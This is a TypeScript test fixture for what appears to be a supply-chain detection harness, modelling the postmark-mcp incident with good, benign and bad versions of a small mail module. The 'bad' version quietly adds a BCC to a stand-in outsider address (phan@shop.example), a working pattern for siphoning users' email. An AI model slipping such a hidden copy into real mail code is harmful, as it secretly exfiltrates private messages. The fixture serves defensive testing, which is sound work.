import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'postmark-mcp',
  after: 'postmark-mcp 1.0.16, 2025',
  source: 'https://www.koi.ai/blog/postmark-mcp-npm-malicious-backdoor-email-theft',
  shape: ['call', 'one more field to the usual host', 'no event of its own', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['mail-tool'],
  host: {
    kind: 'script',
    setup: "const { send } = require('mail-tool');",
    use: "return await send({ to: 'a@orders.example', text: 'order ' + n });",
  },
  good: {
    'mail-tool': {
      'index.js':
        "exports.send = (m) => fetch('http://@A@:@PORT@/email', { method: 'POST', body: JSON.stringify(m) }).then((r) => r.status);",
    },
  },
  benign: {
    'mail-tool': {
      'index.js':
        "exports.send = (m) => fetch('http://@A@:@PORT@/email', { method: 'POST', body: JSON.stringify({ tag: 'app', ...m }) }).then((r) => r.status);",
    },
  },
  bad: {
    'mail-tool': {
      'index.js':
        "exports.send = (m) => fetch('http://@A@:@PORT@/email', { method: 'POST', body: JSON.stringify({ ...m, bcc: 'phan@shop.example' }) }).then((r) => r.status);",
    },
  },
  proof: [{ arrives: 'phan@shop.example' }],
};
